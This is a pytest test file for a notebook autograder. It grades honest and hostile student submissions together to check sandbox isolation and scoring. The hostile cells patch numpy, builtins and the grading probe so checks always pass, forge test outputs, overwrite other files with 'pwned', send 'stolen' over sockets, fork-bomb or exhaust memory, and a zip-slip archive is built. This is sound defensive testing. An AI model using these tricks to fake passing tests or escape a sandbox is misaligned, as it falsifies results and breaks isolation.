"""Hostile submissions, graded in one batch with honest ones, through collect and grade.

A copy of the real ps2 assignment (``layers.ipynb``: MulLayer, AddLayer, Relu,
Sigmoid, Affine and the extra layers, each hidden test calling
``autograder.probe.check``) is the course; every hostile submission starts from
the released notebook, answers WRONG and attacks the grader in one way (an extra
cell that patches numpy, the probe or builtins, forges outputs, reaches for the
reference solutions, writes outside its folder, uses the network, loops, eats
memory, exits, detaches a process; or edited test cells and metadata). For the
batch we assert: no hostile submission earns a point; the honest ones (complete,
and one with the affine cell left undone) keep their exact scores; nothing outside the
sandbox's scratch copy changed while student code ran (the course repository,
every submission, the other students' graded copies and the gradebook are
hashed right before and right after each sandboxed run); no process is left
behind; nothing connected to a listener on the host's loopback; the batch
finished with a status row for everyone. A last test kills a grading run with
SIGKILL mid-notebook and checks that the restart finishes it consistently.
"""
from __future__ import annotations

import hashlib
import os
import re
import shutil
import socket
import threading
import uuid
import zipfile
from pathlib import Path

import nbformat
import psutil
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

import autograder
from autograder.config import Course
from autograder.errors import UnsafeArchiveError
from autograder.execution import sandbox
from autograder.pipeline import grade as grade_module
from autograder.pipeline.collect import collect
from autograder.pipeline.gradebook import cell_scores, open_gradebook

REPO = Path(autograder.__file__).resolve().parents[1]
ASSIGNMENT = "ps2_layers"
NOTEBOOK = "layers"
MARKER = f"hostile-marker-{uuid.uuid4().hex}"
LIAR = "return np.asarray(dout, dtype=float).view(Liar)"
#: One solution region of the instructor's notebook (markers included).
REGION = re.compile(r"^([ \t]*)### BEGIN SOLUTION\n.*?^[ \t]*### END SOLUTION[ \t]*$", re.MULTILINE | re.DOTALL)
#: The solution cell an honest-but-incomplete student leaves as released, and the test it costs.
UNDONE, UNDONE_TEST = "affine", "test_affine_backward"


def copy_course(root: Path) -> Course:
    """A course repository holding a copy of the real ps2 source and released notebooks."""
    for part in ("solutions", "exercises"):
        shutil.copytree(REPO / part / ASSIGNMENT, root / "repo" / part / ASSIGNMENT)
    return Course(repo=root / "repo", workspace=root / "workspace", cell_timeout=10)


def _meta(cell) -> dict:
    return cell.metadata.get("nbgrader", {})


def solutions(course: Course) -> dict[str, str]:
    """grade_id -> instructor source of every solution cell."""
    nb = nbformat.read(str(course.source_dir / ASSIGNMENT / f"{NOTEBOOK}.ipynb"), as_version=4)
    return {_meta(c)["grade_id"]: c.source for c in nb.cells if _meta(c).get("solution")}


def points(course: Course) -> dict[str, float]:
    nb = nbformat.read(str(course.source_dir / ASSIGNMENT / f"{NOTEBOOK}.ipynb"), as_version=4)
    return {_meta(c)["grade_id"]: float(_meta(c)["points"]) for c in nb.cells if _meta(c).get("grade")}


def right(source: str) -> str:
    return "\n".join(line for line in source.splitlines() if "### BEGIN SOLUTION" not in line
                     and "### END SOLUTION" not in line)


def wrong(source: str, answer: str = "return dout") -> str:
    """Every solution region replaced by a plausible wrong body (backward passes dout straight on)."""
    return REGION.sub(lambda m: m.group(1) + answer, source)


def answer(released, fill, extra: str = "", append: str = "") -> nbformat.NotebookNode:
    """The released notebook, solution cells set to fill(grade_id) (None = leave the stub).

    extra: a cell inserted before the first test; append: code added to every solution cell.
    """
    nb = nbformat.reads(nbformat.writes(released), as_version=4)
    for cell in nb.cells:
        if _meta(cell).get("solution"):
            source = fill(_meta(cell)["grade_id"])
            if source is not None:
                cell.source = source + (("\n\n" + append) if append else "")
    if extra:
        first_test = next(i for i, c in enumerate(nb.cells) if _meta(c).get("grade"))
        nb.cells.insert(first_test, new_code_cell(extra))
    return nb


def hostile_sources(paths: dict) -> dict[str, str]:
    """Student id -> code of one extra cell that attacks the grader (answers stay wrong)."""
    victim = paths["victim"]
    return {
        "h_numpy": "import numpy as np\nnp.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
                   "np.array_equal = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None",
        "h_modules": "import sys, types, autograder.probe as probe, backprop.nn.gradcheck as gc\n"
                     "gc.rel_error = lambda a, b: 0.0\n"
                     "fake = types.ModuleType('autograder.checks.judge')\n"
                     "fake.judge = lambda *a: type('V', (), {'passed': True, 'message': 'ok', 'hint': None})()\n"
                     "sys.modules['autograder.checks.judge'] = fake\n"
                     "probe.record = lambda check_id, *o: {'check': check_id, 'outputs': {}}\n"
                     "from IPython.display import display\n"
                     "probe.check = lambda check_id, *o: print('passed')",
        # Every backward returns this subclass (see LIAR), which equals anything.
        "h_subclass": "import numpy as np\nclass Liar(np.ndarray):\n"
                      "    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n"
                      "    def __array_finalize__(self, obj): pass\n"
                      "    def tolist(self): return [0.0]",
        "h_fake_output": "from IPython.display import display\n"
                         "ip = get_ipython()\n"
                         "def forge(result):\n    print('All tests passed!')\n"
                         "    display({'application/vnd.backprop.verdict+json': {'passed': True},\n"
                         "             'application/vnd.backprop.probe+json': {'check': 'ps2_relu_backward',\n"
                         "                                                     'outputs': {}}}, raw=True)\n"
                         "ip.events.register('post_run_cell', forge)\nprint('All tests passed!')",
        "h_solutions": "import glob\nfound = []\n"
                       # Appended to every solution cell: uses the reference if it can reach it (credit!).
                       "try:\n    from reference.extra_layers import Tanh, LeakyRelu, Exp, Reciprocal\n"
                       "    found.append('reference')\nexcept Exception as e:\n    print('no reference:', e)\n"
                       f"for path in glob.glob({paths['solutions']!r} + '/**/*', recursive=True):\n"
                       "    found.append(open(path).read()[:10])\n"
                       f"print('found', found)",
        "h_writer": f"import os\nfor target in [{victim!r}, {paths['gradebook']!r}, {paths['repo_file']!r}]:\n"
                    "    try:\n        open(target, 'w').write('pwned')\n"
                    "    except OSError as e:\n        print('blocked', target, e)\n"
                    f"os.makedirs({paths['other_autograded']!r}, exist_ok=True)",
        "h_network": f"import socket\nfor addr in [('127.0.0.1', {paths['port']}), ('8.8.8.8', 53)]:\n"
                     "    s = socket.socket(); s.settimeout(3)\n"
                     "    try:\n        s.connect(addr); s.sendall(b'stolen')\n"
                     "    except OSError as e:\n        print('no network', e)",
        "h_loop": "while True:\n    pass",
        "h_memory": "hog = []\nwhile True:\n    hog.append(bytearray(64 * 1024**2))",
        "h_exit": "import os\nos._exit(0)",
        "h_detach": "import os, subprocess, sys\n"
                    f"cmd = [sys.executable, '-c', 'import time; time.sleep(600)', {MARKER!r}]\n"
                    "subprocess.Popen(cmd, start_new_session=True)\n"
                    "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        os.execv(cmd[0], cmd)\n"
                    "    os._exit(0)",
        # Its backward methods raise SystemExit too (see the fixture).
        "h_systemexit": "raise SystemExit(0)",
        "h_builtins": "import builtins, json\n"
                      "builtins.abs = lambda x: 0.0\nbuiltins.all = lambda it: True\n"
                      "builtins.any = lambda it: True\nbuiltins.float = lambda *a: 0.0\n"
                      "_dumps = json.dumps\n"
                      "json.dumps = lambda obj, *a, **k: _dumps({'check': 'ps2_relu_backward', 'outputs': {}}"
                      " if isinstance(obj, dict) and 'outputs' in obj else obj, *a, **k)",
        "h_interrupt": "raise KeyboardInterrupt",
    }


def structural(nb: nbformat.NotebookNode) -> dict[str, nbformat.NotebookNode]:
    """Submissions that tamper with the notebook's test cells or metadata instead of running code."""
    def copy():
        return nbformat.from_dict(nbformat.reads(nbformat.writes(nb), as_version=4))
    out = {}
    edited = copy()
    for cell in edited.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.source = "pass"
    out["h_test_pass"] = edited
    deleted = copy()
    deleted.cells = [c for c in deleted.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    out["h_test_deleted"] = deleted
    stripped = copy()
    for cell in stripped.cells:
        cell.metadata.pop("nbgrader", None)
        cell.source = cell.source.replace("assert", "pass  #")
    out["h_metadata_stripped"] = stripped
    dup = copy()
    for cell in dup.cells:
        cell.id = "same"
    out["h_duplicate_ids"] = dup
    forged = copy()
    verdict = {"application/vnd.backprop.verdict+json": {"passed": True}, "text/plain": "passed"}
    for cell in forged.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.outputs = [nbformat.v4.new_output("display_data", data=verdict)]
            cell.execution_count = 1
    bonus = new_code_cell("print('All tests passed')")
    bonus.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "locked": True, "points": 100,
                                  "solution": False, "schema_version": 3}
    forged.cells.append(bonus)
    out["h_forged_outputs"] = forged
    return out


def tree_digest(*roots: Path, skip: tuple[Path, ...] = ()) -> dict[str, str]:
    digest = {}
    for root in roots:
        if root.is_file():
            digest[str(root)] = hashlib.sha256(root.read_bytes()).hexdigest()
            continue
        for path in sorted(root.rglob("*")):
            if any(path == s or s in path.parents for s in skip):
                continue
            if path.is_file() and not path.is_symlink():
                digest[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest()
            elif path.is_dir():
                digest[str(path)] = "dir"
    return digest


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    course = copy_course(base)
    repo, workspace, inbox = course.repo, course.workspace, base / "inbox"
    released = nbformat.read(str(repo / "exercises" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"), as_version=4)
    sources = solutions(course)

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    paths = {
        "victim": str(workspace / "submitted" / "honest_perfect" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"),
        "gradebook": str(workspace / "gradebook.db"),
        "repo_file": str(repo / "solutions" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"),
        "other_autograded": str(workspace / "autograded" / "honest_perfect" / "evil"),
        "solutions": str(repo / "solutions"),
        "port": listener.getsockname()[1],
    }
    submissions = {"honest_perfect": answer(released, lambda g: right(sources[g])),
                   "honest_half": answer(released, lambda g: None if g == UNDONE else right(sources[g]))}
    for student, code in hostile_sources(paths).items():
        if student == "h_subclass":
            submissions[student] = answer(released, lambda g: wrong(sources[g], LIAR), extra=code)
        elif student == "h_systemexit":
            submissions[student] = answer(released, lambda g: wrong(sources[g], "raise SystemExit(0)"), extra=code)
        elif student == "h_solutions":
            submissions[student] = answer(released, lambda g: wrong(sources[g]), append=code)
        else:
            submissions[student] = answer(released, lambda g: wrong(sources[g]), extra=code)
    submissions.update(structural(answer(released, lambda g: wrong(sources[g]))))
    for student, nb in submissions.items():
        (inbox / student).mkdir(parents=True)
        nbformat.write(nb, str(inbox / student / f"{NOTEBOOK}.ipynb"))
    collect(course, ASSIGNMENT, inbox)

    # Workers run notebooks while the coordinator writes the gradebook and graded copies, so the
    # trees that nothing writes are hashed around the whole batch, and the rest checked after it.
    runs: list[str] = []
    real_outputs = sandbox.outputs_from_worker

    def counted(nb, record):
        runs.append(record["status"])
        return real_outputs(nb, record)

    real_config = grade_module.nbgrader_config

    def small_limits(course, *, root):
        c = real_config(course, root=root)
        c.SandboxedExecute.memory_limit = 1024**3
        # No submission here reaches this limit (h_loop stops at the cell limit), so a wide one
        # costs nothing and keeps the honest notebooks clear of it on a loaded machine.
        c.SandboxedExecute.notebook_timeout = 300
        return c

    mp = pytest.MonkeyPatch()
    mp.setattr(sandbox, "outputs_from_worker", counted)
    mp.setattr(grade_module, "nbgrader_config", small_limits)
    repo_before = tree_digest(repo)
    submitted_before = tree_digest(workspace / "submitted")
    try:
        rows = grade_module.grade(course, ASSIGNMENT, workers_count=2)
    finally:
        mp.undo()
    changes = [k for k, v in tree_digest(repo, workspace / "submitted").items()
               if {**repo_before, **submitted_before}.get(k) != v]
    changes += [k for k in {**repo_before, **submitted_before} if not Path(k).exists()]
    try:
        listener.accept()
        connected = True
    except BlockingIOError:
        connected = False
    finally:
        listener.close()
    with open_gradebook(course.gradebook_url, course.course_id) as gb:
        scores = {s: {c.cell: c.score for c in cell_scores(gb, ASSIGNMENT, s)} for s in submissions}
    yield {"course": course, "points": points(course), "rows": {r.student: r for r in rows}, "scores": scores, "changes": changes,
           "connected": connected, "runs": runs, "students": sorted(submissions), "repo_before": repo_before,
           "submitted_before": submitted_before, "base": base}


def test_batch_finished_with_a_row_for_everyone(batch):
    assert sorted(batch["rows"]) == batch["students"]


def test_honest_submissions_keep_their_exact_scores(batch):
    full = batch["points"]
    assert batch["scores"]["honest_perfect"] == full
    assert batch["scores"]["honest_half"] == {**full, UNDONE_TEST: 0}
    assert batch["rows"]["honest_perfect"].score == sum(full.values())
    assert batch["rows"]["honest_half"].score == sum(full.values()) - full[UNDONE_TEST]


@pytest.mark.parametrize("student", sorted(hostile_sources({"victim": "", "gradebook": "", "repo_file": "",
                                                             "other_autograded": "", "solutions": "",
                                                             "port": 0})) +
                         ["h_test_pass", "h_test_deleted", "h_metadata_stripped", "h_duplicate_ids",
                          "h_forged_outputs"])
def test_hostile_submission_earns_nothing(batch, student):
    row = batch["rows"][student]
    assert row.score == 0, (row.status, row.reason, batch["scores"][student])
    assert set(batch["scores"][student].values()) <= {0}


def test_nothing_outside_the_scratch_copy_changed(batch):
    import sqlite3

    # Every submission's notebook came back from a worker once.
    assert len(batch["runs"]) == len(batch["students"])
    assert batch["changes"] == []
    db = sqlite3.connect(batch["course"].workspace / "gradebook.db")
    try:
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert db.execute("SELECT COUNT(*) FROM grading_status").fetchone() == (len(batch["students"]),)
    finally:
        db.close()
    graded = batch["course"].workspace / "autograded"
    assert sorted(p.relative_to(graded).as_posix() for p in graded.rglob("*") if p.is_file()) == sorted(
        f"{s}/{ASSIGNMENT}/{NOTEBOOK}.ipynb" for s in batch["students"])   # folder copies: no time, no timestamp.txt
    assert tree_digest(batch["course"].repo) == batch["repo_before"]
    assert tree_digest(batch["course"].workspace / "submitted") == batch["submitted_before"]
    assert not (batch["course"].workspace / "autograded" / "honest_perfect" / "evil").exists()


def test_nothing_connected_to_the_host(batch):
    assert batch["connected"] is False


def test_no_process_left_behind(batch):
    # Only this test's processes: other grading runs may share the machine.
    ours = (MARKER, f"-run{os.getpid()}-")
    leftovers = [p.pid for p in psutil.process_iter(["cmdline"])
                 if any(m in " ".join(p.info["cmdline"] or []) for m in ours)]
    assert leftovers == []
    # The workers are gone too (multiprocessing's resource tracker lives as long as this process).
    assert [p.cmdline() for p in psutil.Process().children(recursive=True)
            if "multiprocessing.resource_tracker" not in " ".join(p.cmdline())] == []


def test_statuses_name_what_happened(batch):
    rows = batch["rows"]
    assert rows["h_loop"].status == "timed out"
    assert rows["h_exit"].status == "kernel died"
    # The bomb grows in 64 MB blocks: the block that fails raises MemoryError (the kernel keeps the
    # headroom to report it), and that names the run even if the starved kernel dies later.
    assert rows["h_memory"].status == "killed for memory", rows["h_memory"].reason
    assert rows["honest_perfect"].status == "graded"


def test_zip_with_parent_entries_is_refused_and_writes_nothing(batch, tmp_path):
    course = batch["course"]
    evil = tmp_path / "evil.zip"
    good = nbformat.writes(nbformat.read(str(course.workspace / "submitted" / "honest_half" / ASSIGNMENT /
                                             f"{NOTEBOOK}.ipynb"), as_version=4))
    with zipfile.ZipFile(evil, "w") as zf:
        zf.writestr(f"h_zip/{NOTEBOOK}.ipynb", good)
        zf.writestr(f"../../h_zip_escape/{NOTEBOOK}.ipynb", good)
        zf.writestr("../../../escape.txt", "pwned")
    before = tree_digest(batch["base"], skip=(course.workspace / "gradebook.db",))
    with pytest.raises(UnsafeArchiveError, match=r"\.\."):
        collect(course, ASSIGNMENT, evil)
    assert tree_digest(batch["base"], skip=(course.workspace / "gradebook.db",)) == before
    assert not (course.workspace / "submitted" / "h_zip").exists()


#: c_slow's extra cell: says it has started, then waits for a "release" file (a notebook that is
#: killed never gets one). The wait stops at the cell limit anyway, so a lost release cannot hang.
SLOW = ("import os, time\nopen('started', 'w').close()\n"
        "while not os.path.exists('release'):\n    time.sleep(0.05)")

GRADE_IN_CHILD = """
import sys
from autograder.config import Course
from autograder.pipeline.grade import grade
grade(Course(repo=sys.argv[1], workspace=sys.argv[2], cell_timeout=10), sys.argv[3])
"""


def _running(pid: int) -> bool:
    """A process that has not exited (a zombie has; only nobody reaped it)."""
    try:
        return psutil.Process(pid).status() != psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return False


def test_sigkilled_run_resumes_consistently_and_a_concurrent_run_is_refused(tmp_path):
    """A grading run killed with SIGKILL mid-notebook: restart finishes the batch with exact scores."""
    import signal
    import sqlite3
    import subprocess
    import sys
    import time

    from autograder.errors import GradebookError
    from autograder.pipeline.gradebook import read_status

    course = copy_course(tmp_path)
    repo, workspace, inbox = course.repo, course.workspace, tmp_path / "inbox"
    released = nbformat.read(str(repo / "exercises" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"), as_version=4)
    sources, full = solutions(course), points(course)
    subs = {"a_perfect": answer(released, lambda g: right(sources[g])),
            "b_half": answer(released, lambda g: None if g == UNDONE else right(sources[g])),
            # Right, but held: the run is killed while this one waits in its sandbox (see SLOW).
            "c_slow": answer(released, lambda g: right(sources[g]), extra=SLOW)}
    for student, nb in subs.items():
        (inbox / student).mkdir(parents=True)
        nbformat.write(nb, str(inbox / student / f"{NOTEBOOK}.ipynb"))
    collect(course, ASSIGNMENT, inbox)

    scratch = Path(sandbox.tempfile.gettempdir())
    child = subprocess.Popen([sys.executable, "-c", GRADE_IN_CHILD, str(repo), str(workspace), ASSIGNMENT],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        # Wait for c_slow's kernel to say it is inside its cell: no guess at how long starting takes.
        deadline = time.monotonic() + 300
        while not list(scratch.glob(f"{sandbox.SCRATCH_PREFIX}*-run{child.pid}-*/home/started")):
            assert child.poll() is None and time.monotonic() < deadline, "the first run never reached c_slow"
            time.sleep(0.1)
        with pytest.raises(GradebookError, match="another grading run|busy"):
            grade_module.grade(course, ASSIGNMENT)
        assert child.poll() is None
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait()
    # Its workers exit when it is gone, and bwrap --die-with-parent ends their sandboxes; wait for that.
    deadline = time.monotonic() + 60
    while [p.pid for p in psutil.process_iter(["cmdline"])
           if f"-run{child.pid}-" in " ".join(p.info["cmdline"] or [])]:
        assert time.monotonic() < deadline, "the killed run's sandbox outlived it"
        time.sleep(0.2)
    # Its scratch folders are named for the worker that made them; the restart may remove them
    # only once those workers are gone (a busy machine takes a while to end them).
    owners = {int(f.name[len(sandbox.SCRATCH_PREFIX):].split("-", 1)[0])
              for f in scratch.glob(f"{sandbox.SCRATCH_PREFIX}*-run{child.pid}-*")}
    while any(_running(pid) for pid in owners):
        assert time.monotonic() < deadline, "the killed run's workers outlived it"
        time.sleep(0.2)
    # Workers grade side by side, so b_half may still have been running when c_slow started:
    # whatever finished has its row, and c_slow, killed mid-notebook, has none.
    assert set(read_status(course.gradebook_url, ASSIGNMENT)) <= {"a_perfect", "b_half"}

    # The restart runs c_slow again in this process: let it go as soon as it starts waiting.
    stop = threading.Event()

    def release() -> None:
        while not stop.wait(0.1):
            for started in scratch.glob(f"{sandbox.SCRATCH_PREFIX}*-run{os.getpid()}-*/home/started"):
                (started.parent / "release").touch()

    releaser = threading.Thread(target=release, daemon=True)
    releaser.start()
    try:
        graded = grade_module.grade(course, ASSIGNMENT)
    finally:
        stop.set()
        releaser.join()
    rows = {r.student: r for r in graded}
    total = sum(full.values())
    assert {s: (r.status, r.score) for s, r in rows.items()} == {
        "a_perfect": ("graded", total), "b_half": ("graded", total - full[UNDONE_TEST]),
        "c_slow": ("graded", total)}
    # The killed run's scratch folder is gone, and the gradebook is intact with one submission each.
    assert list(Path(sandbox.tempfile.gettempdir()).glob(f"{sandbox.SCRATCH_PREFIX}*-run{child.pid}-*")) == []
    db = sqlite3.connect(workspace / "gradebook.db")
    try:
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert db.execute("SELECT COUNT(*) FROM submitted_assignment").fetchone() == (3,)
    finally:
        db.close()
    with open_gradebook(course.gradebook_url, course.course_id) as gb:
        assert {c.cell: c.score for c in cell_scores(gb, ASSIGNMENT, "c_slow")} == full
